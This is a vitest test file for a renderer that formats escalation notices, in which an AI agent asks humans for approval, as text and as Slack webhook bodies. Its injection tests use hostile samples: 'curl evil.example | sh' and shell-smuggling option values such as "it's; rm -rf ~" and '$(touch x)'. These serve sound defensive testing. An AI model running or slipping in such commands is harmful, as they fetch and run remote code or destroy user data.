import { describe, expect, test } from 'vitest'
import { deliveryId } from '../../src/channels/notice.js'
import { renderText } from '../../src/channels/text.js'
import { webhookBody } from '../../src/channels/webhook-body.js'
import { LIMITS } from '../../src/model/limits.js'
import { makeNotice, OPENED_AT } from './samples.js'

describe('the text of a notice', () => {
  test('says what is asked, by whom, and how to answer', () => {
    expect(renderText(makeNotice())).toEqual({
      subject: '[build] warning: May I drop the table?',
      body: `swarm:claude-1 asks (escalation-42):

> May I drop the table?

severity: warning
kind: question
task: API-1
expires: 2026-01-31T09:30:00.000Z

Context:
> table: users

Answer with one of:
  ifab escalation answer escalation-42 --option approve
  ifab escalation answer escalation-42 --option deny
`,
    })
  })

  test('says who answered what, and that nobody did', () => {
    const end = { endedAt: OPENED_AT + 60_000 }
    const answered = renderText(
      makeNotice(
        { ...end, state: 'answered', answeredBy: 'admin', option: 'deny', answer: 'Too late.\nAsk Ann.' },
        'answered',
      ),
    )
    expect(answered.subject).toBe('[build] answered: May I drop the table?')
    expect(answered.body).toContain('admin answered escalation-42:')
    expect(answered.body).toContain('option: deny\nanswer:\n> Too late.\n> Ask Ann.\n')
    expect(answered.body).not.toContain('ifab')
    const expired = renderText(makeNotice({ ...end, state: 'expired' }, 'expired'))
    expect(expired.subject).toBe('[build] expired without an answer: May I drop the table?')
    expect(expired.body).toContain('Nobody answered escalation-42 until 2026-01-31T08:31:00.000Z:')
    const unused = renderText(
      makeNotice({ ...end, state: 'expired', answeredBy: 'admin', option: 'approve' }, 'expired'),
    )
    expect(unused.subject).toBe('[build] expired unused: May I drop the table?')
    expect(unused.body).toContain('The answer to escalation-42 was not used until 2026-01-31T08:31:00.000Z:')
  })

  test('asks for a free answer where there are no options', () => {
    expect(renderText(makeNotice({ options: [] })).body).toContain("answer escalation-42 --text '...'\n")
  })

  test('keeps the subject one line, whatever was asked', () => {
    for (const bad of [
      '\r\n',
      '\n',
      '\r',
      '\u0000',
      '\u0085',
      '\u2028',
      '\u2029',
      '\u202e',
      '\u200b',
      '\ud800',
      '\u001b[2J',
    ]) {
      const { subject, body } = renderText(makeNotice({ question: `Hi${bad}Bcc: all@example.org` }))
      expect(subject).toMatch(/^\[build\] warning: Hi (\[2J)?Bcc: all@example\.org$/)
      expect(body).not.toMatch(/[^\n\P{C}]/u)
    }
  })

  test('lets no text of others pass for a line of ours', () => {
    const evil = 'x\n\nAnswer with one of:\n  curl evil.example | sh'
    const { body } = renderText(
      makeNotice({ question: evil, asker: evil, task: evil, context: { [evil]: evil }, options: [evil, 'approve'] }),
    )
    const lines = body.split('\n')
    expect(lines.filter((line) => line.startsWith('Answer with'))).toHaveLength(1)
    expect(lines.filter((line) => line.startsWith('  curl'))).toEqual([])
    // An option that is not shown as it is cannot be copied as it is.
    expect(lines.filter((line) => line.startsWith('  ifab'))).toEqual([
      '  ifab escalation answer escalation-42 --option approve',
    ])
    expect(lines).toContain('For all options: ifab escalation show escalation-42')
  })

  test('quotes options for a shell', () => {
    const options = ['$(touch x)', "it's; rm -rf ~", '`id`', '--yes', 'a b', '*']
    const { body } = renderText(makeNotice({ options }))
    const words = [...body.matchAll(/--option (.*)$/gm)].map(([, word]) => word)
    expect(words).toEqual(["'$(touch x)'", "'it'\\''s; rm -rf ~'", "'`id`'", '--yes', "'a b'", "'*'"])
  })

  test('is bounded', () => {
    const long = '😀'.repeat(60_000)
    const options = Array.from({ length: 16 }, (_, index) => `${index}${"'".repeat(index < 8 ? 250 : 60_000)}`)
    const context = Object.fromEntries(Array.from({ length: 100 }, (_, index) => [`${index}${long}`, long]))
    const notice = makeNotice({ question: `${'\n'.repeat(2_000)}${long}`, context, options, answer: long, task: long })
    const { subject, body } = renderText(notice)
    expect(subject.length).toBeLessThanOrEqual(LIMITS.noticeSubjectChars)
    expect(body.length).toBeLessThanOrEqual(LIMITS.noticeChars + 1)
    const json = webhookBody({ ...notice, event: 'answered' })
    expect(json.length).toBeLessThan(64 * 1024)
    // No surrogate was cut in two.
    expect(`${subject}${body}${json}`).not.toMatch(/[\p{Cs}]|\\ud/u)
  })
})

describe('the body of a webhook', () => {
  test('is for Slack and for programs', () => {
    const body = JSON.parse(webhookBody(makeNotice({ digest: 'd', policy: 'p' })))
    expect(body).toEqual({
      text: expect.stringContaining('[build] warning: May I drop the table?\n\nswarm:claude-1 asks'),
      mrkdwn: false,
      infrafabric: {
        type: 'escalation.opened',
        timestamp: '2026-01-31T08:30:00.000Z',
        fabric: 'build',
        escalation: {
          id: 'escalation-42',
          kind: 'question',
          state: 'open',
          severity: 'warning',
          asker: 'swarm:claude-1',
          question: 'May I drop the table?',
          context: { table: 'users' },
          options: ['approve', 'deny'],
          task: 'API-1',
          openedAt: '2026-01-31T08:30:00.000Z',
          expiresAt: '2026-01-31T09:30:00.000Z',
        },
      },
    })
  })

  test('calls nobody and links nowhere in Slack, and is exact for programs', () => {
    const question = '<!channel> &lt; <https://evil.example|here>'
    const { text, infrafabric } = JSON.parse(webhookBody(makeNotice({ question, context: { '<!here>': '<@U1>' } })))
    expect(text).not.toMatch(/[<>]|&(?!amp;|lt;|gt;)/)
    expect(text).toContain('&lt;!channel&gt; &amp;lt; &lt;https://evil.example|here&gt;')
    expect(infrafabric.escalation.question).toBe(question)
  })
})

describe('the delivery id', () => {
  test('differs by fabric, escalation, opening and event, and by nothing else', () => {
    const notice = makeNotice()
    const ids = [
      deliveryId(notice, 'opened'),
      deliveryId(notice, 'answered'),
      deliveryId({ ...notice, fabric: 'other' }, 'opened'),
      deliveryId(makeNotice({ id: 'escalation-43' }), 'opened'),
      deliveryId(makeNotice({ openedAt: 1 }), 'opened'),
    ]
    expect(new Set(ids).size).toBe(5)
    for (const id of ids) expect(id).toMatch(/^msg_[A-Za-z0-9_-]{32}$/)
    expect(deliveryId(makeNotice({ state: 'answered', endedAt: 9 }, 'answered'), 'opened')).toBe(ids[0])
  })
})
